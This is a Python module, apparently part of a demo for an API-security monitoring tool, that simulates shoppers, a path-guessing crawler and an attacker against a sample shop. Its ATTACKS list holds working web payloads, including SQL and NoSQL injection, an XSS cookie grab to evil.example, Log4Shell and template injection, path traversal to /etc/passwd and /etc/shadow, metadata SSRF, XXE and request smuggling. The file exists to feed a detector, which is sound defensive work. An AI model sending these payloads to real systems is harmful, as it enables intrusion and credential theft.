"""Who visits the sample shop: customers, a crawler that guesses, and somebody with bad intentions."""

from __future__ import annotations

import random
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from itertools import cycle
from typing import Any

import requests

from metlo_otel.demo.goods import PRODUCTS, USERS, User

_TIMEOUT = 10.0  # seconds
PAUSE = 0.15  # seconds between two requests, on average

# Under which visitors know the shop and its payments, behind a proxy that speaks TLS.
HOST, PAYMENTS = "shop.example", "pay.example"

_CARD = "4111 1111 1111 1111"  # the number that card networks give out for tests
_XML = {"Content-Type": "application/xml"}
_ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
_INTROSPECTION = "{__schema{types{name}}}"
_UNSIGNED = "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9."
# One of each kind that detection knows.
ATTACKS: tuple[tuple[str, str, dict[str, Any]], ...] = (
    ("GET", "/api/products", {"params": {"q": "' OR 1=1 UNION SELECT name, password FROM users --"}}),
    ("GET", "/api/products", {"params": {"q": "<script>fetch('//evil.example/?'+document.cookie)</script>"}}),
    ("GET", "/api/products", {"params": {"q": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}}),
    ("GET", "/api/products", {"params": {"q": "*)(uid=*))(|(uid=*"}}),
    ("GET", "/api/products", {"params": {"q": 'O:8:"stdClass":1:{s:4:"user";s:5:"admin";}'}}),
    ("GET", "/api/products", {"params": {"q": '<!--#exec cmd="ls" -->'}}),
    ("GET", "/api/products", {"params": {"query": _INTROSPECTION}}),
    ("GET", "/api/products", {"headers": {"X-Api-Version": "${jndi:ldap://evil.example/a}"}}),
    ("GET", "/api/products", {"headers": {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}}),
    ("GET", "/api/manuals", {"params": {"file": "../../../../etc/passwd"}}),
    ("GET", "/api/manuals", {"params": {"file": "manual.txt; cat /etc/shadow"}}),
    ("GET", "/api/manuals", {"params": {"file": "http://169.254.169.254/latest/meta-data/"}}),
    ("GET", "/api/manuals", {"params": {"file": "http://evil.example/shell.php?"}}),
    ("GET", "/api/manuals", {"params": {"file": "manual.txt\0.png"}}),
    ("GET", "/api/manuals", {"params": {"file": "manual.txt\r\nSet-Cookie: admin=1"}}),
    ("GET", "/api/me", {"headers": {"Authorization": _UNSIGNED}}),
    ("POST", "/api/login", {"json": {"user": "admin' --", "password": "x"}}),
    ("POST", "/api/login", {"json": {"user": {"$ne": None}, "password": {"$gt": ""}}}),
    ("POST", "/api/login", {"json": {"user": "ben", "__proto__": {"admin": True}}}),
    ("POST", "/api/login", {"json": {"user": "a@b.example\r\nBcc: all@b.example", "password": "x"}}),
    ("POST", "/v1/notifications", {"data": _ENTITY, "headers": _XML}),
    ("POST", "/v1/notifications", {"data": "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n"}),
    ("GET", "/.git/config", {}),
)
_AT_ONCE = 9  # attacks in one visit
_GUESSES = ("/.env", "/wp-login.php", "/admin", "/api/users/1", "/internal/customers", "/.git/config")


@dataclass(slots=True)
class Visitor:
    """Somebody with an address and a browser; `go` makes one request, to the service that has the path, and returns the
    answer.
    """

    shop: str
    payments: str
    address: str
    agent: str
    session: requests.Session = field(default_factory=requests.Session)

    def go(self, method: str, path: str, **more: Any) -> requests.Response:
        pays = path.startswith("/v1/")
        headers = {
            "Host": PAYMENTS if pays else HOST,
            "X-Forwarded-For": self.address,
            "X-Forwarded-Proto": "https",
            "User-Agent": self.agent,
            **more.pop("headers", {}),
        }
        where = self.payments if pays else self.shop
        return self.session.request(method, where + path, headers=headers, timeout=_TIMEOUT, **more)


class Visitors:
    """All of them, one request at a time on a thread of their own; use it with `with`."""

    def __init__(self, shop: str, payments: str, seed: int = 7, pause: float = PAUSE) -> None:
        self._random = random.Random(seed)
        self._pause = pause
        self._end = threading.Event()
        self._thread = threading.Thread(
            target=self._visit, args=(shop, payments), name="metlo-otel-visitors", daemon=True
        )
        self.requests = 0
        self.problem: requests.RequestException | None = None

    def __enter__(self) -> Visitors:
        self._thread.start()
        return self

    def __exit__(self, *_problem: object) -> None:
        self._end.set()
        self._thread.join(_TIMEOUT)

    def _visit(self, shop: str, payments: str) -> None:
        plans = cycle(_plans(shop, payments, self._random))
        try:
            while not self._end.is_set():
                for _ in next(plans)():
                    self.requests += 1
                    if self._end.wait(self._random.uniform(0, 2 * self._pause)):
                        return
        except requests.RequestException as problem:
            self.problem = problem


Plan = Callable[[], Iterator[requests.Response]]


def _plans(shop: str, payments: str, chance: random.Random) -> list[Plan]:
    people = [
        Visitor(shop, payments, f"198.51.100.{20 + number}", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
        for number in range(3)
    ]
    crawler = Visitor(shop, payments, "203.0.113.9", "guesser/0.3")
    attacker = Visitor(shop, payments, "203.0.113.66", "python-requests/2.31")
    customers = [_customer(who, user, chance) for who, user in zip(people, USERS.values(), strict=True)]
    good = [*customers, _window_shopper(people[0], chance)]
    return [*good, _guesser(crawler, chance), _attacker(attacker, chance), *good, *good]


def _customer(who: Visitor, user: User, chance: random.Random) -> Plan:
    """Browses, mistypes the password, logs in, buys; one in three sends an empty order."""

    def visit() -> Iterator[requests.Response]:
        yield from _window_shopper(who, chance)()
        if chance.random() < 0.4:
            yield who.go("POST", "/api/login", json={"user": user.name, "password": "qwertz"})
        entry = who.go("POST", "/api/login", json={"user": user.name, "password": user.password})
        yield entry
        if entry.status_code != 200:  # somebody made a rule
            return
        known = {"Authorization": f"Bearer {entry.json()['token']}"}
        yield who.go("GET", "/api/me", headers=known)
        lines = [{"product": chance.choice(list(PRODUCTS)), "count": 1}] if chance.random() > 0.3 else []
        yield who.go("POST", "/api/checkout", headers=known, json={"lines": lines, "card": _CARD})
        if lines:
            charge = who.go("POST", "/v1/charges", json={"amount": 34.5, "card": _CARD})
            yield charge
            if charge.status_code == 201:
                yield who.go("GET", f"/v1/charges/{charge.json()['id']}")
        yield who.go("GET", "/api/orders.csv", headers=known)
        number = chance.choice(list(PRODUCTS))
        yield who.go("POST", f"/api/products/{number}/reviews", headers=known, json={"text": "Very good.", "stars": 5})

    return visit


def _window_shopper(who: Visitor, chance: random.Random) -> Plan:
    def visit() -> Iterator[requests.Response]:
        yield who.go("GET", "/")
        yield who.go("GET", "/api/products", params={"q": chance.choice(["tea", "cup", "honey"]), "limit": 5})
        for _ in range(chance.randint(1, 4)):
            yield who.go("GET", f"/api/products/{chance.choice([*PRODUCTS, 999])}")
        yield who.go("GET", "/api/manuals", params={"file": "manual.txt"})

    return visit


def _guesser(who: Visitor, chance: random.Random) -> Plan:
    def visit() -> Iterator[requests.Response]:
        for path in chance.sample(_GUESSES, 3):
            yield who.go("GET", path)
        yield who.go("GET", "/api/me", headers={"Authorization": "Bearer guessed"})

    return visit


def _attacker(who: Visitor, chance: random.Random) -> Plan:
    def visit() -> Iterator[requests.Response]:
        for method, path, more in chance.sample(ATTACKS, _AT_ONCE):
            yield who.go(method, path, **more)

    return visit
